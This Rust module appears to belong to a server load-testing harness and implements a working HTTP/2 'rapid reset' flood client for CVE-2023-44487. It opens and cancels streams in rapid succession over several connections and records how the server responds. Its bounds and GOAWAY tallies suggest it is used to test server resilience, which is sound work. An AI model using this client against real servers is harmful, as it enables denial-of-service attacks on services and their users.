//! The HTTP/2 "rapid reset" client of the `h2-flood` scenario
//! (CVE-2023-44487): over h2c with prior knowledge, it opens a stream with
//! a complete `GET` and resets it (`RST_STREAM(CANCEL)`) at once, again and
//! again. A reset stream frees the client's concurrency slot at once, so
//! the server's `SETTINGS_MAX_CONCURRENT_STREAMS` does not bound the work it
//! is made to start. No Debian tool sends this (h2load waits for every
//! response), hence this client, built on the `h2` crate that hyper uses.
//!
//! Bounded in count and time: at most `resets` streams in all and at most
//! `duration`, over `connections` connections at once; a connection the
//! server closes (a GOAWAY, as servers patched for the CVE send to such a
//! client) is counted and replaced by a new one.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use h2::Reason;
use tokio::net::TcpStream;

/// What to send, and the bounds.
#[derive(Debug, Clone)]
pub struct ResetConfig {
    pub addr: SocketAddr,
    /// The request's authority (the route's host).
    pub authority: String,
    /// Connections open at once.
    pub connections: u32,
    /// Streams opened and reset, in all, at most.
    pub resets: u64,
    /// Time, at most.
    pub duration: Duration,
}

/// What a run did.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ResetResult {
    /// Streams opened and reset.
    pub resets: u64,
    /// Connections opened (the first `connections` and every replacement).
    pub connections: u64,
    /// Connections the server ended: a GOAWAY or a close.
    pub closed_by_server: u64,
    /// GOAWAY reasons the server gave, by name, with their counts.
    pub goaway: BTreeMap<String, u64>,
    /// Other failures (connect, handshake), by kind.
    pub errors: BTreeMap<String, u64>,
    pub elapsed: Duration,
}

impl ResetResult {
    pub fn resets_per_sec(&self) -> f64 {
        self.resets as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }

    /// `"ENHANCE_YOUR_CALM 12, NO_ERROR 1"`, or `"none"`.
    pub fn goaway_summary(&self) -> String {
        summary(&self.goaway)
    }

    pub fn error_summary(&self) -> String {
        summary(&self.errors)
    }
}

fn summary(map: &BTreeMap<String, u64>) -> String {
    if map.is_empty() {
        return "none".into();
    }
    map.iter()
        .map(|(k, n)| format!("{k} {n}"))
        .collect::<Vec<_>>()
        .join(", ")
}

/// The counters the connection tasks share.
#[derive(Default)]
struct Shared {
    /// Streams taken from the budget (one more per task that found it spent).
    taken: AtomicU64,
    /// Streams opened and reset.
    resets: AtomicU64,
    connections: AtomicU64,
    closed_by_server: AtomicU64,
    /// Written once per connection, never across an await.
    tallies: Mutex<(BTreeMap<String, u64>, BTreeMap<String, u64>)>,
}

impl Shared {
    fn goaway(&self, reason: String) {
        if let Ok(mut t) = self.tallies.lock() {
            *t.0.entry(reason).or_default() += 1;
        }
    }

    fn error(&self, kind: &str) {
        if let Ok(mut t) = self.tallies.lock() {
            *t.1.entry(kind.to_string()).or_default() += 1;
        }
    }

    /// Takes one stream from the budget; false when it is spent.
    fn take(&self, budget: u64) -> bool {
        self.taken.fetch_add(1, Ordering::Relaxed) < budget
    }
}

/// Runs the flood on a runtime of its own (one thread, like `wrk -t1`) and
/// returns when the budget or the time is spent.
pub fn run(config: &ResetConfig) -> Result<ResetResult> {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .context("starting the rapid-reset client's runtime")?;
    let shared = Arc::new(Shared::default());
    let started = Instant::now();
    let deadline = started + config.duration;
    rt.block_on(async {
        let tasks: Vec<_> = (0..config.connections.max(1))
            .map(|_| {
                tokio::spawn(connection_loop(
                    config.clone(),
                    deadline,
                    Arc::clone(&shared),
                ))
            })
            .collect();
        for t in tasks {
            let _ = t.await;
        }
    });
    let elapsed = started.elapsed();
    let (goaway, errors) = shared.tallies.lock().map(|t| t.clone()).unwrap_or_default();
    Ok(ResetResult {
        resets: shared.resets.load(Ordering::Relaxed),
        connections: shared.connections.load(Ordering::Relaxed),
        closed_by_server: shared.closed_by_server.load(Ordering::Relaxed),
        goaway,
        errors,
        elapsed,
    })
}

/// One connection slot: a connection, its streams opened and reset until it
/// is closed, then the next connection, until the budget or time is spent.
async fn connection_loop(config: ResetConfig, deadline: Instant, shared: Arc<Shared>) {
    let uri = format!("http://{}/", config.authority);
    while Instant::now() < deadline && shared.taken.load(Ordering::Relaxed) < config.resets {
        let tcp = match TcpStream::connect(config.addr).await {
            Ok(t) => t,
            Err(_) => {
                shared.error("connect");
                // A server out of sockets: back off instead of spinning.
                tokio::time::sleep(Duration::from_millis(10)).await;
                continue;
            }
        };
        let _ = tcp.set_nodelay(true);
        let (send, conn) = match h2::client::handshake(tcp).await {
            Ok(pair) => pair,
            Err(_) => {
                shared.error("handshake");
                continue;
            }
        };
        shared.connections.fetch_add(1, Ordering::Relaxed);
        let mut driver = tokio::spawn(conn);
        let mut send = Some(send);
        let mut ended_by_us = false;
        while let Some(s) = send.take() {
            if Instant::now() >= deadline || !shared.take(config.resets) {
                ended_by_us = true;
                break;
            }
            let Ok(mut s) = s.ready().await else {
                break;
            };
            let Ok(request) = hyper::Request::get(&uri).body(()) else {
                shared.error("request");
                return;
            };
            match s.send_request(request, true) {
                Ok((_response, mut stream)) => {
                    stream.send_reset(Reason::CANCEL);
                    shared.resets.fetch_add(1, Ordering::Relaxed);
                }
                Err(_) => break,
            }
            send = Some(s);
        }
        // The connection ends once no handle to it is left.
        drop(send);
        if ended_by_us {
            driver.abort();
            break;
        }
        shared.closed_by_server.fetch_add(1, Ordering::Relaxed);
        match tokio::time::timeout(Duration::from_secs(1), &mut driver).await {
            Ok(Ok(Err(e))) => match e.reason() {
                Some(r) if e.is_go_away() => shared.goaway(format!("{r:?}")),
                _ => shared.error("connection"),
            },
            Ok(Ok(Ok(()))) => shared.goaway("closed".into()),
            Ok(Err(_)) => shared.error("driver"),
            Err(_) => {
                driver.abort();
                shared.error("connection did not end");
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn summaries_name_each_kind() {
        let mut r = ResetResult::default();
        assert_eq!(r.goaway_summary(), "none");
        r.goaway.insert("ENHANCE_YOUR_CALM".into(), 3);
        r.goaway.insert("NO_ERROR".into(), 1);
        assert_eq!(r.goaway_summary(), "ENHANCE_YOUR_CALM 3, NO_ERROR 1");
    }
}
